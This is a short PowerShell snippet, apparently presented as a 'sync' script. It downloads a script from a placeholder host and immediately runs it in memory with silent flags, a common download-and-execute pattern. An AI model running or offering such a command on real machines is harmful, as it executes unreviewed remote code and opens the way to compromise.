$s = Invoke-RestMethod -UseBasicParsing 'https://winsync.example.com/p/sync.ps1'
& ([scriptblock]::Create($s)) -Apply -Silent
